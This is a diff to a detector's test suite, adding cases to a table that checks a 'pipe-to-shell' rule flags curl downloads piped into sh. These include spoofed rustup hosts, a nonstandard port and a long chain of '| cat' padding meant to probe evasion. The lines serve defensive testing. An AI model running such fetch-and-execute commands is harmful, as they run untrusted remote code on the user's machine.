@@ -24,6 +24,8 @@ describe('pipe-to-shell reports a download that is run', () => {
     ['curl -s https://sh.rustup.rs@get.tool.test/ | sh'],
     ['curl -s https://sh.rustup.rs.tool.test/ | sh'],
     ['curl -s http://sh.rustup.rs | sh'],
+    ['curl -s https://sh.rustup.rs:8443/ | sh'],
+    [`curl -s https://get.tool.test/a ${'| cat '.repeat(300)}| sh`],
     ['curl -s https://raw.githubusercontent.com/someone/else/main/x.sh | sh'],
   ])('%s', (line) => {
     expect(inspectText(code(line))).toMatchObject([{ rule: 'pipe-to-shell', severity: 'high', line: 4 }]);
